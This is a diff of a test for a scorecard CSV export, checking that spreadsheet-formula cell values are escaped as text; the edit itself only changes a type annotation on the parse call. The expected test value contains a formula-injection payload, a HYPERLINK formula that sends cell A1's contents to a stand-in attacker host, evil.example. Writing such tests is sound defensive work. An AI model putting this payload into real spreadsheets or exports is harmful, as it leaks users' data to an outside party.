@@ -234,7 +234,7 @@ describe('the scorecard CSV', () => {
   it('shows names a spreadsheet would run as formulas as text, and keeps negative numbers numbers', async () => {
     const res = await fetch(`${base}/export/scorecard.csv?period=2026-10-01`, { headers: { cookie } });
     expect(res.status).toBe(200);
-    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
+    const rows = parse<Record<string, string>>(await res.text(), { columns: true });
     expect(rows).toHaveLength(1);
     expect(rows[0]).toMatchObject({
       journey: `'=HYPERLINK("http://evil.example/?leak="&A1,"Open")`,
